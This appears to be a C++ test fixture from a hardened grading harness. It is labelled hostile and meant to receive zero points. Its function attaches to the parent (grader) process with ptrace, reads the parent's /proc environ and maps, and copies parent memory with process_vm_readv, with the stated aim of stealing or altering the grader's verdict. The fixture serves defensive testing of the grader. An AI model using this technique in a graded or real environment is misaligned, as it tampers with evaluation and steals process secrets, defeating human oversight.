// HOSTILE FIXTURE ptrace_parent (attack class 7: process control).
// The tested function tries PTRACE_ATTACH on its parent and reads the parent's memory (/proc/PPID/mem, process_vm_readv) and environment, to steal or alter the grader's verdict.
// The hardened grader must give this file 0 points on stage 05.
//@head
#include <cstdio>
#include <string>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>

// WARNING: never run this fixture outside the grader's sandbox (it is built to hurt the machine).

namespace {
std::string hostileStolen;
void hostilePtrace() {
    const pid_t parent = getppid();
    if (ptrace(PTRACE_ATTACH, parent, nullptr, nullptr) == 0) {
        waitpid(parent, nullptr, 0);
        // the parent's stack: the grader's state (its verdict buffers, its secrets)
        long word = ptrace(PTRACE_PEEKDATA, parent, reinterpret_cast<void*>(0x400000), nullptr);
        hostileStolen += "attached, word " + std::to_string(word) + "; ";
        ptrace(PTRACE_DETACH, parent, nullptr, nullptr);
    }
    char path[64], buf[4096];
    std::snprintf(path, sizeof path, "/proc/%d/environ", static_cast<int>(parent));
    if (std::FILE* f = std::fopen(path, "rb")) {
        hostileStolen.append(buf, std::fread(buf, 1, sizeof buf, f));
        std::fclose(f);
    }
    std::snprintf(path, sizeof path, "/proc/%d/maps", static_cast<int>(parent));
    unsigned long lo = 0, hi = 0;
    if (std::FILE* f = std::fopen(path, "r")) {
        if (std::fscanf(f, "%lx-%lx", &lo, &hi) != 2) lo = hi = 0;
        std::fclose(f);
    }
    if (hi > lo) {
        iovec local{buf, sizeof buf}, remote{reinterpret_cast<void*>(lo), sizeof buf};
        if (process_vm_readv(parent, &local, 1, &remote, 1, 0) > 0) hostileStolen += "read the parent's memory; ";
    }
}
}  // namespace
//@each
    hostilePtrace();
